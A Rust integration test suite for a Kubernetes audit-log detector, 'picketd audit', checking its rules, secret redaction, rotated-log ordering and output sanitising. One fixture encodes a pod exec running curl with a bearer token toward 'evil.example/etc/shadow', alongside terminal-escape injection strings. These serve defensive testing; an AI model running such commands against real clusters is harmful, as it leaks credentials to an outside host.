//! `picketd audit` as a person or a script uses it.

#![allow(clippy::unwrap_used, reason = "a test may panic")]

use std::collections::BTreeSet;
use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

fn run(args: &[&str], files: &[&Path]) -> Output {
    let none = tempfile::tempdir().unwrap();
    Command::new(env!("CARGO_BIN_EXE_picketd"))
        .arg("audit")
        .args(args)
        .args(files)
        .env_clear()
        .env("PICKET_AUDIT_RULES_DIR", none.path())
        .output()
        .unwrap()
}

fn found(output: &Output) -> Vec<Value> {
    let text = String::from_utf8(output.stdout.clone()).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn event(second: u32, change: Value) -> Value {
    let time = format!("2026-01-01T00:{:02}:{:02}.000000Z", second / 60, second % 60);
    let mut event = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": format!("id-{second}"),
        "stage": "ResponseComplete", "requestURI": "/api/v1/namespaces/shop", "verb": "delete", "user": {"username": "bob"},
        "sourceIPs": ["10.0.0.9"], "objectRef": {"resource": "namespaces", "name": format!("shop-{second}")},
        "responseStatus": {"code": 200}, "requestReceivedTimestamp": time, "stageTimestamp": time
    });
    event.as_object_mut().unwrap().extend(change.as_object().unwrap().clone());
    event
}

fn lines(events: &[Value]) -> String {
    events.iter().map(|event| format!("{event}\n")).collect()
}

fn gzip(text: &str) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(text.as_bytes()).unwrap();
    gz.finish().unwrap()
}

fn of(found: &[Value], rule: &str) -> Vec<Value> {
    found.iter().filter(|detection| detection["rule"] == rule).cloned().collect()
}

#[test]
fn every_entry_of_the_catalogue_is_raised_and_no_counter_example() {
    let entries: Vec<Value> = serde_json::from_str(include_str!("../audit/tests/data/examples.json")).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let (good, bad) = (dir.path().join("good.log"), dir.path().join("bad.log"));
    let rules = dir.path().join("rules");
    fs::create_dir(&rules).unwrap();
    let site = "site: {allowed_registries: [registry.example/], blocked_addresses: [192.0.2.0/24]}\n";
    fs::write(rules.join("tuning.yml"), site).unwrap();
    // What one event cannot show: so many of them, one after another, or nothing at all.
    let by_sequence = [
        "audit-gap",
        "audit-log-tampered",
        "audit-level-downgrade",
        "audit-id-collision",
        "sa-token-address-change",
        "rbac-change-then-workload",
    ];
    let number = |rule: &str| match rule {
        "secret-read-burst"
        | "forbidden-burst"
        | "authn-failure-burst"
        | "mass-deletion"
        | "container-logs-read-bulk" => 40,
        "secret-name-probing" | "admission-policy-denied" | "admission-webhook-call-failed" | "anonymous-probing" => 10,
        "api-throttled-burst" | "api-server-error-burst" => 60,
        _ => 1,
    };
    let kinds = ["pods", "nodes", "services", "secrets", "configmaps", "deployments", "namespaces", "roles"];
    let (mut text, mut other, mut wanted, mut refused) = (String::new(), String::new(), Vec::new(), Vec::new());
    for entry in &entries {
        let rule = entry["rule"].as_str().unwrap();
        for (at, example) in entry["example"].as_array().unwrap().iter().enumerate() {
            let mut events = vec![example.clone(); number(rule)];
            if matches!(rule, "multi-resource-discovery" | "permission-probing") {
                events = kinds
                    .iter()
                    .cycle()
                    .take(16)
                    .map(|kind| {
                        let mut event = example.clone();
                        event["objectRef"]["resource"] = json!(kind);
                        event
                    })
                    .collect();
            }
            for (copy, event) in events.iter_mut().enumerate() {
                event["auditID"] = json!(format!("{rule}-{at}-{copy}"));
                if number(rule) > 1 && event.get("objectRef").is_some() {
                    event["objectRef"]["name"] = json!(format!("n{copy}"));
                }
                if matches!(rule, "anonymous-probing" | "permission-probing") {
                    event["requestURI"] = json!(format!("/{copy}"));
                }
                if rule == "permission-probing" {
                    // Nobody else's requests are to count.
                    event["user"]["username"] = json!("prober");
                    let decision = if copy > 7 { "forbid" } else { "allow" };
                    event["annotations"] = json!({"authorization.k8s.io/decision": decision});
                }
                text += &format!("{event}\n");
            }
            if !by_sequence.contains(&rule) {
                wanted.push((rule.to_owned(), format!("{rule}-{at}-0")));
            }
        }
        for (at, example) in entry["counter_example"].as_array().unwrap().iter().enumerate() {
            let mut event = example.clone();
            event["auditID"] = json!(format!("{rule}-{at}"));
            other += &format!("{event}\n");
            refused.push((rule.to_owned(), format!("{rule}-{at}")));
        }
    }
    fs::write(&good, text).unwrap();
    fs::write(&bad, other).unwrap();
    let raised = |log: &Path| -> BTreeSet<(String, String)> {
        let output = run(&["-o", "json", "--rules-dir", rules.to_str().unwrap()], &[log]);
        assert_eq!(output.status.code(), Some(0));
        let mut raised = BTreeSet::new();
        for detection in found(&output) {
            let rule = detection["rule"].as_str().unwrap().to_owned();
            // A line that is no event has no audit id.
            raised.extend((rule == "audit-unparsable-line").then(|| (rule.clone(), format!("{rule}-0-0"))));
            for id in detection["audit_ids"].as_array().unwrap() {
                raised.insert((rule.clone(), id.as_str().unwrap().to_owned()));
            }
        }
        raised
    };
    let by_id = raised(&good);
    let missed: Vec<_> = wanted.iter().filter(|pair| !by_id.contains(pair)).collect();
    assert!(missed.is_empty(), "{missed:?}");
    let by_id = raised(&bad);
    let wrong: Vec<_> = refused.iter().filter(|pair| by_id.contains(pair)).collect();
    assert!(wrong.is_empty(), "{wrong:?}");
}

#[test]
fn no_secret_reaches_the_output_in_any_form() {
    const CANARY: &str = "c4n4ry0f5ecret5";
    let bearer = format!("eyJhbGciOiJSUzI1NiJ9.{CANARY}");
    let body = json!({
        "kind": "Secret", "data": {"password": CANARY}, "stringData": {"password": CANARY}, "type": "bootstrap.kubernetes.io/token",
        "metadata": {"annotations": {"kubectl.kubernetes.io/last-applied-configuration": CANARY}},
        "spec": {"token": CANARY, "expirationSeconds": 9_999_999, "containers": [{
            "name": "x", "image": format!("user:{CANARY}@evil/image"), "env": [{"name": "P", "value": CANARY}], "args": [CANARY],
            "securityContext": {"privileged": true}
        }]},
        "status": {"token": CANARY}, "rules": [{"verbs": ["*"], "resources": [CANARY]}]
    });
    let mut events = Vec::new();
    let objects = [
        ("secrets", "", ""),
        ("configmaps", "", ""),
        ("pods", "", ""),
        ("serviceaccounts", "token", ""),
        ("tokenreviews", "", "authentication.k8s.io"),
        ("clusterroles", "", "rbac.authorization.k8s.io"),
    ];
    for (at, (resource, sub, group)) in (0..).zip(objects) {
        events.push(event(at, json!({
            "level": "RequestResponse", "verb": "create", "responseStatus": {"code": 201, "message": CANARY},
            "objectRef": {"resource": resource, "subresource": sub, "apiGroup": group, "namespace": "kube-system", "name": "x"},
            "requestURI": format!("/x?access_token={bearer}&token={bearer}"), "requestObject": body, "responseObject": body,
            "annotations": {"authorization.k8s.io/reason": CANARY, "pod-security.kubernetes.io/audit-violations": CANARY}
        })));
    }
    events.push(event(20, json!({
        "verb": "create", "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": "x"},
        "requestURI": format!("/x/exec?command=curl&command=-H&command=Authorization:+Bearer+{bearer}&command=https://evil.example/etc/shadow"),
        "userAgent": format!("kube-hunter/{CANARY}")
    })));
    events.push(event(
        30,
        json!({"responseStatus": {"code": 403, "message": format!("User cannot impersonate: {CANARY}")}}),
    ));
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.log");
    fs::write(
        &log,
        lines(&events)
            + &format!(
                "plain {CANARY}\n{{\"kind\":\"{CANARY}\"}}\n{{\"kind\":\"Event\",\"verb\":7,\"x\":\"{CANARY}\"}}\n"
            ),
    )
    .unwrap();
    for args in [&["-o", "json"][..], &["-o", "json", "--explain"], &["--explain"], &[]] {
        let output = run(args, &[&log]);
        let all = String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
        assert!(all.contains("audit-leaks-token-body") && all.contains("exec-sensitive-file"), "{all}");
        for form in [CANARY, &bearer, "Bearer", "access_token"] {
            assert!(!all.contains(form), "{args:?}: {form} in\n{all}");
        }
    }
}

#[test]
fn rotated_files_are_read_in_the_order_they_were_written_whatever_order_they_are_named_in() {
    let dir = tempfile::tempdir().unwrap();
    let path = |name: &str| dir.path().join(name);
    let day = |from: u32| {
        lines(
            &(from..from + 3)
                .map(|at| event(at, json!({"objectRef": {"resource": "namespaces", "name": "shop"}})))
                .collect::<Vec<_>>(),
        )
    };
    fs::write(path("audit-2026-01-01T00-00-10.000.log.gz"), gzip(&day(0))).unwrap();
    fs::write(path("audit-2026-01-01T00-00-20.000.log"), day(10)).unwrap();
    fs::write(path("audit.log"), day(20)).unwrap();
    let output = run(
        &["-o", "json"],
        &[
            &path("audit.log"),
            &path("audit-2026-01-01T00-00-10.000.log.gz"),
            &path("audit-2026-01-01T00-00-20.000.log"),
        ],
    );
    let deleted = of(&found(&output), "namespace-deleted");
    assert_eq!(deleted.len(), 1, "one burst over three files");
    assert_eq!((&deleted[0]["count"], &deleted[0]["audit_id"]), (&json!(9), &json!("id-0")));
    assert!(deleted[0]["file"].as_str().unwrap().ends_with(".log.gz"));
}

#[test]
fn lines_that_are_no_events_are_counted_named_and_raised_once() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.log");
    let wrapped = json!({"protoPayload": {"methodName": "io.k8s.core.v1.pods.delete"}});
    let list = json!({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": [event(5, json!({})), event(6, json!({"kind": null, "apiVersion": null}))]});
    let beta = event(
        7,
        json!({"apiVersion": "audit.k8s.io/v1beta1", "stageTimestamp": null, "timestamp": "2026-01-01T00:00:07Z"}),
    );
    fs::write(&log, lines(&[event(1, json!({})), wrapped.clone(), wrapped, list, beta])).unwrap();
    let output = run(&["-o", "json"], &[&log]);
    assert_eq!(output.status.code(), Some(0));
    let found = found(&output);
    let names: Vec<_> =
        of(&found, "namespace-deleted").iter().map(|d| d["object"]["name"].as_str().unwrap().to_owned()).collect();
    assert_eq!(names, ["shop-1", "shop-5", "shop-6", "shop-7"]);
    let unparsable = of(&found, "audit-unparsable-line");
    assert_eq!((unparsable.len(), &unparsable[0]["count"], &unparsable[0]["line"]), (1, &json!(2), &json!(2)));
    let told = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        told.contains("2 lines are no audit events")
            && told.contains("audit.log:2: ")
            && told.contains("audit.log:3: "),
        "{told}"
    );
    let strict = run(&["-o", "json", "--fail-on", "low"], &[&log]);
    assert_eq!(strict.status.code(), Some(1));
}

#[test]
fn a_log_without_any_event_has_no_time() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.log");
    fs::write(&log, "no event\nnor this\n").unwrap();
    let told = found(&run(&["-o", "json"], &[&log]));
    let [sign] = of(&told, "audit-unparsable-line").try_into().unwrap();
    assert_eq!((&sign["time"], &sign["last_time"], &sign["count"]), (&Value::Null, &Value::Null, &json!(2)));
    let table = String::from_utf8(run(&[], &[&log]).stdout).unwrap();
    let row = table.lines().find(|line| line.contains("audit-unparsable-line")).unwrap();
    assert!(row.trim_start_matches(['|', ' ', '\u{2502}']).starts_with("- "), "{row}");
    assert!(!table.contains("1970"), "{table}");
}

#[test]
fn a_table_shows_no_control_characters_and_no_progress_in_a_pipe() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.log");
    let evil = event(
        1,
        json!({"user": {"username": "eve\u{1b}[31m\r\nroot"}, "objectRef": {"resource": "namespaces", "name": "a\u{9b}b\u{202e}"}}),
    );
    fs::write(&log, lines(&[evil])).unwrap();
    let output = run(&[], &[&log]);
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(text.contains("namespace-deleted") && text.contains("DETECTIONS"), "{text}");
    assert!(!text.chars().any(|c| c.is_control() && c != '\n') && !text.contains('\u{202e}'), "{text:?}");
    assert!(!String::from_utf8(output.stderr).unwrap().contains(['\r', '\u{1b}']));
}

#[test]
fn only_the_time_asked_for_is_judged_from_standard_input_too() {
    let mut child = Command::new(env!("CARGO_BIN_EXE_picketd"))
        .args([
            "audit",
            "-o",
            "json",
            "--since",
            "2026-01-01T00:01:00Z",
            "--until",
            "2026-01-01T00:02:00Z",
            "--rule",
            "namespace-deleted",
            "-",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let events: Vec<_> = [30, 90, 150].map(|second| event(second, json!({}))).to_vec();
    child.stdin.take().unwrap().write_all(lines(&events).as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    let names: Vec<_> =
        found(&output).iter().map(|d| (d["rule"].clone(), d["object"]["name"].clone(), d["line"].clone())).collect();
    assert_eq!(names, [(json!("namespace-deleted"), json!("shop-90"), json!(2))]);
    assert!(String::from_utf8_lossy(&output.stderr).contains("2 events outside the time asked for"));
}
